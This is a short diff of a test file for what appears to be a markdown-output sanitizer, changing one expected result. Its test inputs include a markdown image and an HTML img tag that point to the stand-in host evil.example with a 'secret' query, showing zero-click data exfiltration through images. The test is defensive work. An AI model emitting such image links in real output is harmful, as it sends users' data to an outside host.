@@ -119,7 +119,7 @@ TAXED = "[shop/taxes.py:4](shop/taxes.py#L4)"
         ("localhost:80 and 12:30 stay", "localhost:80 and 12:30 stay"),
         # An address can carry text away, an image does so without a click.
         ("![x](http://evil.example/?q=secret) done", "x done"),
-        ("<img src='http://evil.example'>", "&lt;img src='http://evil.example'>"),
+        ("<img src='http://evil.example'>", "&lt;img src='`http://evil.example`'>"),
         ("```\nitems[1] # shop/taxes.py:99\n```", "```\nitems[1] # shop/taxes.py:99\n```"),
     ],
 )
